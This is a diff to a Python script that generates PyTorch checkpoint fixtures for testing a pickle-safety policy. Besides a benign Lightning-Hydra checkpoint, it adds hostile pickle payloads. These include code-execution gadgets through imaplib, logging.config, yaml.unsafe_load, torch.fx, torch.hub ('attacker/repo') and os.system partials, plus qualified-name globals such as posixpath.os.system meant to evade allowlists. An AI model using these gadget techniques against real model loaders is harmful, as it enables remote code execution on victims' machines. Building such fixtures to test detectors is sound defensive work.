@@ -8,8 +8,13 @@ modules so the pickles record the real module and class names.
 Output is deterministic (fixed seeds, no timestamps).
 """
 import argparse
+import codecs
 import collections
+import distutils.spawn
+import functools
+import imaplib
 import io
+import logging.config
 import os
 import pathlib
 import pickle
@@ -23,6 +28,10 @@ import zipfile
 
 import numpy as np
 import torch
+import torch.fx.graph_module
+import torch.hub
+import torch.utils.collect_env
+import yaml
 from omegaconf import OmegaConf
 
 HERE = os.path.dirname(os.path.abspath(__file__))
@@ -280,6 +289,123 @@ def unsupported():
     save_buffer({"epoch": 0, "global_step": 0}, os.path.join(d, "meta.pt"))
 
 
+# --- pickle policy (internal/ckpt policy.go): benign partials, gadgets, qualified names ---
+
+class SimpleDenseNet(torch.nn.Module):
+    """lightning-hydra-template's src/models/components/simple_dense_net.py, made tiny."""
+
+    def __init__(self, input_size=4, lin1_size=3, output_size=2):
+        super().__init__()
+        self.model = torch.nn.Sequential(
+            torch.nn.Linear(input_size, lin1_size), torch.nn.ReLU(), torch.nn.Linear(lin1_size, output_size))
+
+
+stub_module("src.models.components.simple_dense_net", SimpleDenseNet=SimpleDenseNet)
+
+LHT_MC_KEY = ("ModelCheckpoint{'monitor': 'val/acc', 'mode': 'max', 'every_n_train_steps': 0, "
+              "'every_n_epochs': 1, 'train_time_interval': None}")
+
+
+def lht_partial():
+    """A lightning-hydra-template run (MNISTLitModule): save_hyperparameters(logger=False) keeps
+    net, and Hydra's `_partial_: true` optimizer and scheduler as functools.partial objects."""
+    seed()
+    net = SimpleDenseNet()
+    hparams = {
+        "net": net,
+        "optimizer": functools.partial(torch.optim.Adam, lr=0.001, weight_decay=0.0),
+        "scheduler": functools.partial(torch.optim.lr_scheduler.ReduceLROnPlateau, mode="min", factor=0.1,
+                                       patience=10),
+        "compile": False,
+    }
+    ckpt = {
+        "epoch": 9, "global_step": 8600, "pytorch-lightning_version": "2.1.2",
+        "state_dict": {"net." + k: v for k, v in net.state_dict().items()},
+        "loops": {"fit_loop": {"epoch_progress": {"current": {"completed": 9}}}},
+        "callbacks": {LHT_MC_KEY: {"monitor": "val/acc", "best_model_score": torch.tensor(0.9875),
+                                   "best_model_path": "logs/train/runs/x/checkpoints/epoch_009.ckpt"},
+                      "EarlyStopping{'monitor': 'val/acc', 'mode': 'max'}": {"wait_count": 0, "patience": 100}},
+        "optimizer_states": [], "lr_schedulers": [],
+        "hparams_name": "kwargs", "hyper_parameters": hparams,
+    }
+    save_buffer(ckpt, os.path.join(HERE, "lht_partial.ckpt"))
+
+
+class Call:
+    """Pickles as fn(*args) (REDUCE). Never called here: loading it would run fn."""
+
+    def __init__(self, fn, *args):
+        self.fn, self.args = fn, args
+
+    def __reduce__(self):
+        return (self.fn, self.args)
+
+
+CMD = "touch " + PWNED
+
+# Code runners reachable through ordinary stdlib and torch modules (issue 14): each fixture is
+# {"epoch": 1, ..., "payload": <call>}; torch.load without weights_only would run the call.
+GADGETS = {
+    "imaplib": Call(imaplib.IMAP4_stream, CMD),
+    "collect_env": Call(torch.utils.collect_env.run, CMD),
+    "logging_config": Call(logging.config.dictConfig,
+                           {"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}}}),
+    "yaml_unsafe_load": Call(yaml.unsafe_load, "!!python/object/apply:os.system [%r]" % CMD),
+    "distutils_spawn": Call(distutils.spawn.spawn, ["touch", PWNED]),
+    "fx_source": Call(torch.fx.graph_module._forward_from_src,
+                      "import os\nos.system(%r)\ndef forward(self):\n    pass\n" % CMD, {}),
+    "codecs_open": Call(codecs.open, PWNED, "w"),
+    "torch_hub": Call(torch.hub.load, "attacker/repo", "model"),
+}
+
+
+def gadgets():
+    for name, call in GADGETS.items():
+        save_buffer({"epoch": 1, "global_step": 1, "payload": call}, os.path.join(HERE, "gadget_%s.ckpt" % name))
+    # Hydra-style partial of os.system: a consumer that instantiates the "optimizer" runs it.
+    save_buffer({"epoch": 1, "global_step": 1, "hparams_name": "kwargs",
+                 "hyper_parameters": {"optimizer": functools.partial(os.system, CMD)}},
+                os.path.join(HERE, "hostile_partial.ckpt"))
+
+
+class Qualified:
+    """A protocol-4 qualified global: module `module`, dotted name `name`, which pickle's
+    find_class resolves by walking attributes (posixpath.os.system is os.system)."""
+
+    def __init__(self, module, name):
+        self.module, self.name = module, name
+
+    def __call__(self, *args):  # save_reduce wants a callable; never called
+        raise RuntimeError("not callable")
+
+
+class QualifiedPickler(pickle._Pickler):
+    """The standard (pure-Python) pickler, writing Qualified as STACK_GLOBAL(module, name)."""
+
+    dispatch = dict(pickle._Pickler.dispatch)
+
+    def save_qualified(self, obj):
+        self.save(obj.module)
+        self.save(obj.name)
+        self.write(pickle.STACK_GLOBAL)
+        self.memoize(obj)
+
+    dispatch[Qualified] = save_qualified
+
+
+QUALIFIED = {"posixpath": ("posixpath", "os.system"), "tempfile": ("tempfile", "_os.system"),
+             "torch": ("torch", "os.system")}
+
+
+def qualified():
+    pickle_module = types.ModuleType("qualified_pickle")
+    pickle_module.Pickler = QualifiedPickler
+    for name, (module, attr) in QUALIFIED.items():
+        ckpt = {"epoch": 1, "global_step": 1, "payload": Call(Qualified(module, attr), CMD)}
+        save_buffer(ckpt, os.path.join(HERE, "qualified_%s.ckpt" % name), pickle_module=pickle_module,
+                    pickle_protocol=4)
+
+
 if __name__ == "__main__":
     lightning2()
     unique()
@@ -288,4 +414,7 @@ if __name__ == "__main__":
     protocol4()
     hostile()
     unsupported()
+    lht_partial()
+    gadgets()
+    qualified()
     assert not os.path.exists(PWNED)
